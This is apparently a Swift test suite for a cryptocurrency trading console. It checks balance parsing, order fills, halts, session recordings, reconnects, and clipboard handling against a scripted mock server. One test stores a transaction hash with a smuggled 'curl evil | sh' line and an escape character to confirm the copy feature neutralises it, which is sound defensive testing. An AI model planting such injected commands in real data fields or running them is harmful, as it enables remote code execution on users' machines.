import Cryptography
import Phrases
import Storage
import Synchronization
import TestSupport
import Testing
import Trading

@testable import Accounts
@testable import ScreenState
@testable import TradingService
@testable import ViewModels

/// What a person and a script are told of amounts, ends and failures, by a server that says what the
/// test wants.
@MainActor @Suite(.timeLimit(.minutes(10))) struct TradingNewsTests {
  private static let rows =
    #"[{"asset":"ETH","total":"2.5","locked":"0.5"},{"asset":"BTC","total":"1"}]"#
  nonisolated private static let estimate = EstimateSwap(from: "ETH", to: "USDT", amount: "0.1")

  /// Runs `body` with a hub that is signed in to such a server.
  private func with(
    ledger: Store? = nil, _ body: (HubFixture, ScriptedMarket, AccountHub) async throws -> Void
  ) async throws {
    try await HubFixture.run { fixture in
      let market = try ScriptedMarket(network: fixture.network, balances: Self.rows)
      let hub = fixture.hub(ledger: ledger) { $0[.trading].url = market.url }
      try await hub.only(SignIn.toTrading(key: "sandbox-key", secret: Secret("sandbox-secret")))
      let outcome: Result<Void, any Error>
      do {
        outcome = .success(try await body(fixture, market, hub))
      } catch {
        outcome = .failure(error)
      }
      await market.stop()
      try outcome.get()
    }
  }

  @Test("Amounts that cannot be read are told as they were: older, and marked")
  func unreadableAmounts() async throws {
    try await with { fixture, market, hub in
      let console = ConsoleFixture(fixture, hub: hub)
      try await console.until("balances") { $0.balances.rows.count == 2 }
      let before = fixture.time.wallTime
      fixture.time.advance(by: .seconds(5))
      await market.push(
        #"{"ch":"balances","data":[{"asset":"ETH","total":"NaN"},{"asset":"BTC","total":"2"}]}"#)
      try await console.until("the new amount, and a mark at the other") { screen in
        screen.balances.rows.contains { $0.asset == "BTC" && $0.total == "2" }
          && screen.balances.rows.filter(\.isUnreadable).map(\.asset) == ["ETH"]
      }
      let stored = try await fixture.store.balances.all()
      let moments = Dictionary(uniqueKeysWithValues: stored.map { ($0.asset, $0.at) })
      #expect((moments["ETH"] ?? .max) <= before, "its amount is as old as it was")
      #expect((moments["BTC"] ?? 0) > before)

      market.set(balances: #"[{"asset":"ETH","total":""},{"asset":"BTC","total":"3"}]"#)
      let lines = try await hub.lines(of: ListBalances())
      let ether = try #require(lines.first { $0.asset == "ETH" })
      #expect((ether.total, ether.unreadable) == ("2.5", true))
      let bitcoin = try #require(lines.first { $0.asset == "BTC" })
      #expect((bitcoin.total, bitcoin.unreadable) == ("3", nil))
      market.set(balances: #"[{"asset":"SOL","total":null}]"#)
      #expect(try await hub.failure(of: ListBalances()).code == "malformed")
    }
  }

  @Test("A fill below what was confirmed is said, and so is one whose amount nobody knows")
  func fills() async throws {
    try await with { fixture, market, hub in
      func swap(_ id: String) -> PlaceSwap {
        PlaceSwap(Self.estimate, slippageBps: 30, clientOrderId: id)
      }
      let end = #""status":"FILLED","txHash":"0xabc","updatedAt":5"#
      market.set("swap", order: "ord_1", end + #","filledOut":"1""#)
      #expect(try await hub.failure(of: swap("less")).code == "below-minimum")
      market.set("swap", order: "ord_2", end + #","filledOut":"100""#)
      #expect(try await hub.only(swap("enough")).filledOut == "100")
      market.set("swap", order: "ord_3", end)
      market.set("order_status", order: "ord_3", end)
      let remark = try await hub.failure(of: swap("unknown"))
      #expect(remark.code == "amount-unknown" && remark.isRemark == true)
    }
  }

  @Test("Why an order failed is kept, in the server's words")
  func reasons() async throws {
    try await with { fixture, market, hub in
      market.set("swap", order: "ord_1", #""status":"PENDING""#)
      market.set(
        "order_status", order: "ord_1",
        #""status":"FAILED","reason":"no liquidity","updatedAt":5"#)
      try await hub.only(PlaceSwap(Self.estimate, slippageBps: 30, clientOrderId: "mine"))
      await fixture.time.release(.seconds(5))
      #expect(try await hub.order("mine", "FAILED").reason == "no liquidity")
      #expect(try await hub.only(ShowOrder(id: "mine")).reason == "no liquidity")
    }
  }

  @Test("A filled order without its amount is asked about again, also after a restart")
  func lateAmounts() async throws {
    try await with { fixture, market, hub in
      func keep(_ id: String, _ orderId: String) async throws {
        let order = OrderRecord(
          clientOrderId: id, orderId: orderId, status: .filled, from: "ETH", to: "USDT",
          amount: "1", slippageBps: 30, createdAt: 1)
        try await fixture.store.orders.record(order, [])
        market.set(
          "order_status", order: orderId, #""status":"FILLED","filledOut":"3","updatedAt":5"#)
      }
      _ = try await hub.lines(of: ListBalances())
      try await keep("asked", "ord_1")
      #expect(try await hub.only(ShowOrder(id: "asked")).filledOut == "3")
      try await keep("followed", "ord_2")
      await hub.close()
      let next = fixture.hub { $0[.trading].url = market.url }
      _ = try await next.lines(of: ListBalances())
      let found = try await next.eventually("the amount") {
        try await fixture.store.orders.order("followed")?.filledOut
      }
      #expect(found == "3")
    }
  }

  @Test("A halt that cannot be written down holds all the same, and says so")
  func haltOnAFullDisk() async throws {
    let ledger = try Store.inMemory()
    try await with(ledger: ledger) { fixture, market, hub in
      let swap = PlaceSwap(Self.estimate, slippageBps: 30, clientOrderId: "mine")
      // As on a full disk: what is there can be read, and nothing is taken.
      try await ledger.refuseEntries(true)
      let failure = try await hub.failure(of: SetHalt(isHalted: true))
      #expect(failure.code == "halt-not-kept" && failure.message.contains(Phrase.haltNotKept.text))
      try await ledger.refuseEntries(false)
      #expect(try await ledger.settings.value(.halt) == nil)
      #expect(try await hub.failure(of: swap).code == "halted")
    }
  }

  @Test("A recording that cannot be written is told on the screen")
  func recording() async throws {
    final class FullRecorder: TradingRecorder {
      private let untold = Mutex<String?>("session.jsonl cannot be written")
      func record(_ frame: RecordedFrame) {}
      func takeFailure() -> String? {
        untold.withLock { text in
          defer { text = nil }
          return text
        }
      }
    }
    try await with { fixture, market, hub in
      await hub.close()
      let next = fixture.hub(recorder: FullRecorder()) { $0[.trading].url = market.url }
      let console = ConsoleFixture(fixture, hub: next)
      try await console.until("a notice") { screen in
        screen.notices.contains { $0.text == "session.jsonl cannot be written" }
      }
    }
  }

  @Test("After a login that worked a refusal is waited out; R dials then, and after the end too")
  func refusedLater() async throws {
    try await with { fixture, market, hub in
      await hub.close()
      market.set(closed: true)
      let second = ConsoleFixture(fixture, hub: fixture.hub { $0[.trading].url = market.url })
      try await second.until("a pause") {
        if case .waiting = $0.lamp(.trading) { true } else { false }
      }
      market.set(closed: false)
      second.press(.character("R"))
      try await second.until("online") { $0.lamp(.trading) == .online }
      await second.model.context.hub.close()

      let works = #"{"op":"auth","data":{"status":"authenticated"}}"#
      market.set("auth", #"{"error":"Invalid API key"}"#)
      let third = ConsoleFixture(fixture, hub: fixture.hub { $0[.trading].url = market.url })
      try await third.until("its end") {
        if case .stopped = $0.lamp(.trading) { true } else { false }
      }
      market.set("auth", works)
      third.press(.character("R"))
      try await third.until("online again") { $0.lamp(.trading) == .online }
    }
  }

  @Test("Of a stored hash nothing reaches the clipboard that a terminal would obey")
  func copiedHash() async throws {
    try await with { fixture, _, hub in
      let order = OrderRecord(
        clientOrderId: "mine", orderId: "ord_1", status: .filled, from: "ETH", to: "USDT",
        amount: "1", slippageBps: 30, filledOut: "3", txHash: "0x1\ncurl evil | sh\u{1b}",
        createdAt: 1)
      try await fixture.store.orders.record(order, [])
      let console = ConsoleFixture(fixture, hub: hub)
      try await console.until("the order") { !$0.orders.rows.isEmpty }
      var copied: [String] = []
      console.model.context.program.copy = { copied.append($0) }
      console.model.focus(.orders)
      console.press(.character("y"))
      #expect(copied == ["0x1 curl evil | sh\u{241b}"])
    }
  }
}
